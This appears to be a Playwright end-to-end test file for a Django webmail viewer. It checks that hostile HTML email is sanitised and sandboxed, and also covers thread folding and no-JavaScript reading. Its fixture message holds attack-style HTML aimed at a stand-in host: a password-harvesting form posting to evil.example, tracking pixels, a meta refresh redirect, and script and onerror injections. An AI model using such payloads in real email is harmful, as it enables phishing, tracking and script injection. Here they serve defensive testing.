"""HTML mail is hostile: what it may do on the page, which is next to nothing."""

from __future__ import annotations

import base64
from collections.abc import Callable

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import BrowserContext, Page, Route, expect

from emails.importing import store
from emails.models import Email
from tests.e2e.site import Site
from tests.factories import make_email

pytestmark = pytest.mark.browser

PIXEL = base64.b64decode("R0lGODlhAQABAAAAACwAAAAAAQABAAA=")
HOSTILE = """\
From: Eve <eve@example.com>
To: alex@example.org
Subject: Look
Message-ID: <{name}@example.com>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<p id="said" style="background: url(https://evil.example/style.png)">Hello Alex</p>
<img src="https://evil.example/pixel.png" onerror="document.body.append('it ran')">
<script>document.body.append("it ran")</script>
<iframe src="https://evil.example/frame"></iframe>
<link rel="stylesheet" href="https://evil.example/style.css">
<meta http-equiv="refresh" content="0; url=https://evil.example/away">
<form action="https://evil.example/post"><input name="password"><button>Log in</button></form>
<a href="javascript:document.body.append('it ran')">a link</a> <a href="https://example.net/">another</a>
"""


@pytest.fixture
def reached(context: BrowserContext, site: Site) -> list[str]:
    """Every request to another origin than the site's; each is answered with a pixel."""
    urls: list[str] = []

    def answer(route: Route) -> None:
        urls.append(route.request.url)
        route.fulfill(body=PIXEL, content_type="image/gif")

    context.route(lambda url: not url.startswith(site.url) and not url.startswith("data:"), answer)
    return urls


def only_refusals(complaints: list[str]) -> None:
    """The browser reports what the frame's policy refused; nothing else may be among it."""
    assert all("Content Security Policy" in told or "sandboxed" in told for told in complaints), complaints
    complaints.clear()


def test_it_reaches_nobody_until_remote_images_are_asked_for(
    page: Page, person: User, reached: list[str], complaints: list[str]
) -> None:
    _outcome, letter = store(person, HOSTILE.format(name=person.username).encode())
    page.goto(f"/email/{letter.pk}/")
    frame = page.frame_locator("iframe[name=mail]")
    expect(frame.locator("#said, p").first).to_have_text("Hello Alex")
    page.wait_for_load_state("networkidle")
    assert reached == []
    page.get_by_role("link", name="Show remote images").click()
    expect(frame.get_by_text("Hello Alex")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert set(reached) <= {"https://evil.example/pixel.png", "https://evil.example/style.png"}
    assert "https://evil.example/pixel.png" in reached
    expect(frame.locator("body")).not_to_contain_text("it ran")
    expect(frame.locator("form, script, iframe, link, [onerror]")).to_have_count(0)
    only_refusals(complaints)


def test_no_script_runs_even_if_one_got_past_the_sanitiser(
    page: Page, person: User, reached: list[str], complaints: list[str]
) -> None:
    letter: Email = make_email(person, html=HOSTILE.split("\n\n", 1)[1])
    page.goto(f"/email/{letter.pk}/")
    frame = page.frame_locator("iframe[name=mail]")
    expect(frame.locator("#said")).to_have_text("Hello Alex")
    page.wait_for_load_state("networkidle")
    expect(frame.locator("body")).not_to_contain_text("it ran")
    assert page.url.endswith(f"/email/{letter.pk}/")
    assert [url for url in reached if "away" not in url] == []
    only_refusals(complaints)


def thread_of(person: User) -> list[Email]:
    key = {"thread_key": f"{person.username} {'t' * 40}"}
    return [make_email(person, text=f"Number {n}.\n\nAnd more of it.\n\n> old {n}", **key) for n in range(3)]


def test_a_message_of_the_thread_is_read_in_its_place(page: Page, person: User) -> None:
    letters = thread_of(person)
    page.goto(f"/email/{letters[2].pk}/")
    folded = page.locator(".letter").first
    expect(folded.locator(".letter-body")).to_be_hidden()
    folded.locator("summary").first.click()
    expect(folded.locator(".mail-text")).to_contain_text("And more of it.")
    expect(folded.get_by_text("old 0")).to_be_hidden()
    folded.get_by_text("Quoted: 1 line").click()
    expect(folded.get_by_text("old 0")).to_be_visible()
    folded.get_by_role("link", name="Open this message").click()
    page.wait_for_url(f"**/email/{letters[0].pk}/")


def test_it_is_read_without_javascript_too(enter: Callable[..., BrowserContext], person: User) -> None:
    letters = thread_of(person)
    page = enter(person, java_script_enabled=False).new_page()
    page.goto(f"/email/{letters[2].pk}/")
    folded = page.locator(".letter").first
    folded.locator("summary").click()
    expect(folded.locator(".letter-body p").first).to_have_text("Number 0. And more of it.")
    folded.get_by_role("link", name="Open this message").click()
    page.wait_for_url(f"**/email/{letters[0].pk}/")
    expect(page.locator("#message .mail-text")).to_contain_text("And more of it.")


def test_a_long_page_is_shown_at_its_whole_height_when_asked(
    enter: Callable[..., BrowserContext], person: User
) -> None:
    letter = make_email(person, html="<p>Hello</p>" * 60)
    page = enter(person, java_script_enabled=False).new_page()
    page.goto(f"/email/{letter.pk}/")
    frame = page.locator("iframe[name=mail]")
    before = frame.bounding_box()
    page.get_by_label("Full height").check()
    after = frame.bounding_box()
    assert before
    assert after
    assert before["height"] <= 1150 < 60 * 40 <= after["height"]


def test_a_long_quotation_in_a_page_is_folded_and_opens_without_a_script(page: Page, person: User) -> None:
    quote = f"<blockquote>{'an older word ' * 60}</blockquote>"
    letter = make_email(person, html=f"<p>Yes.</p>{quote}")
    page.goto(f"/email/{letter.pk}/")
    frame = page.frame_locator("iframe[name=mail]")
    expect(frame.get_by_text("an older word")).to_be_hidden()
    frame.get_by_text("Quoted").click()
    expect(frame.get_by_text("an older word")).to_be_visible()
